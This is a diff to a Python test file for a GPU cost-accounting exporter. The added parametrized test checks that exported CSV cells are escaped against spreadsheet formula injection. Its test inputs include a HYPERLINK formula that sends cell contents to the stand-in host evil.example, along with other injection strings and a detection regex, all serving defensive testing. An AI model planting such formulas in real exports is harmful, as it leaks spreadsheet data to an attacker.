@@ -4,7 +4,11 @@ from __future__ import annotations
 
 import csv
 import io
+import json
+import re
 from fractions import Fraction
+
+import pytest
 
 from gpu_device_plugin.core.cost.accounting import NOBODY, Account, Holder, Key, Part, Period
 from gpu_device_plugin.core.cost.charges import By, Rate, cents, rows
@@ -198,3 +202,34 @@ def test_a_charge_is_named_by_the_least_that_is_known() -> None:
     )
     assert next(by_pod)["ResourceName"] == "web-1"
     assert next(by_namespace)["ResourceName"] == "ml"
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"pay here")'
+
+
+@pytest.mark.parametrize(
+    ("name", "cell"),
+    [
+        *((f"{sign}1", f"'{sign}1") for sign in "=+-@\uff1d\uff0b\uff0d\uff20"),
+        (FORMULA, f"'{FORMULA}"),
+        (f"  {FORMULA}", f"  '{FORMULA}"),
+        ("\t=1", "\\t=1"),
+        ("\r=1", "\\r=1"),
+        ("a\n=1", "a\\n=1"),
+        ("\x1b[31m", "\\x1b[31m"),
+        ('";=1', "\";'=1"),
+        ("a; =1|+1,-1", "a; '=1|'+1,'-1"),
+        ("web-1", "web-1"),
+        ("a=b", "a=b"),
+    ],
+)
+def test_no_cell_of_the_csv_is_a_formula_whoever_owns_the_pods(name: str, cell: str) -> None:
+    """The owner of a pod is what its creator writes, and spreadsheets run formulas; see OWASP's "CSV Injection"."""
+    holder = Key(Holder(name, name, name, name), name)
+    text = focus_csv(costs(By.POD, parts={(holder, Part.USED): Fraction(3600)}, models=True), RATES, name)
+    (row,) = csv.DictReader(io.StringIO(text))
+    assert {row[key] for key in ("SubAccountId", "ResourceName", "SkuId", "ProviderName")} == {cell}
+    for value in row.values():
+        assert not re.search(r"(^|[,;|\t\r\n])\s*[=+\-@\uff1d\uff0b\uff0d\uff20]", value), value
+        assert value.isprintable()
+    assert "gpushare/owner" in json.loads(row["Tags"])
